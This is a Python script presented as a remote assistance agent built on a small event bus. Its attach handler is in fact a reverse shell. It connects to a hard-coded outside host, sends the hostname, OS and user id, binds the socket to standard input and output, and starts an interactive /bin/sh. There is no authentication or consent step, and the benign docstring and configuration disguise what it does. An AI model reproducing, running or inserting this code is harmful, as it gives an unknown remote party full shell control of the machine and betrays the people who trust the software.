#!/usr/bin/env python3
"""Remote assistance agent driven by a small event bus.

Startup collects host facts and emits events; observers subscribed with
@bus.on(...) react. When the "session.open" event fires, the attach
observer connects to the assistance relay and hands it an interactive
session.
"""
import argparse
import configparser
import logging
import os
import platform
import socket
import subprocess
import sys
import time
from collections import defaultdict
from pathlib import Path
from typing import Any, Callable, Dict, List

log = logging.getLogger("assist")

AGENT_CONFIG = """
[relay]
host = assist.relay-desk.net
port = 4433
retries = 5
retry_delay = 10

[session]
interpreter = /bin/sh
flags = -i
"""


class EventBus:
    def __init__(self) -> None:
        self._handlers: Dict[str, List[Callable[..., None]]] = defaultdict(list)

    def on(self, event: str):
        def decorator(func):
            self._handlers[event].append(func)
            return func
        return decorator

    def emit(self, event: str, **payload: Any) -> None:
        for handler in list(self._handlers.get(event, [])):
            try:
                handler(**payload)
            except Exception:
                log.exception("handler %s failed for %s", handler.__name__, event)


bus = EventBus()


class SessionState:
    def __init__(self, cfg: configparser.ConfigParser) -> None:
        self.cfg = cfg
        self.facts: Dict[str, Any] = {}
        self.attempts = 0


def read_os_name() -> str:
    try:
        for line in Path("/etc/os-release").read_text().splitlines():
            if line.startswith("PRETTY_NAME="):
                return line.split("=", 1)[1].strip('"')
    except OSError:
        pass
    return platform.system()


@bus.on("fact")
def log_fact(state: SessionState, name: str, value: Any) -> None:
    state.facts[name] = value
    log.debug("fact %s = %s", name, value)


def open_channel(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=30)


def bind_stdio(chan: socket.socket) -> None:
    chan.settimeout(None)
    fd = chan.fileno()
    for target in (0, 1, 2):
        os.dup2(fd, target)


@bus.on("session.open")
def attach(state: SessionState) -> None:
    relay = state.cfg["relay"]
    sess = state.cfg["session"]
    host, port = relay["host"], relay.getint("port")
    for attempt in range(1, relay.getint("retries") + 1):
        state.attempts = attempt
        try:
            chan = open_channel(host, port)
        except OSError as exc:
            log.debug("relay unreachable (%d): %s", attempt, exc)
            time.sleep(relay.getint("retry_delay"))
            continue
        banner = f"{socket.gethostname()} {state.facts.get('os')} uid={os.getuid()}\n"
        chan.sendall(banner.encode())
        bind_stdio(chan)
        subprocess.call([sess["interpreter"], sess["flags"]])
        bus.emit("session.closed", state=state)
        return


@bus.on("session.closed")
def closed(state: SessionState) -> None:
    log.info("session ended after %d attempt(s)", state.attempts)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--host", help="override relay host")
    ap.add_argument("--port", type=int, help="override relay port")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = configparser.ConfigParser()
    cfg.read_string(AGENT_CONFIG)
    if args.host:
        cfg["relay"]["host"] = args.host
    if args.port:
        cfg["relay"]["port"] = str(args.port)
    state = SessionState(cfg)

    bus.emit("fact", state=state, name="os", value=read_os_name())
    bus.emit("fact", state=state, name="python", value=platform.python_version())
    bus.emit("session.open", state=state)
    return 0


if __name__ == "__main__":
    sys.exit(main())
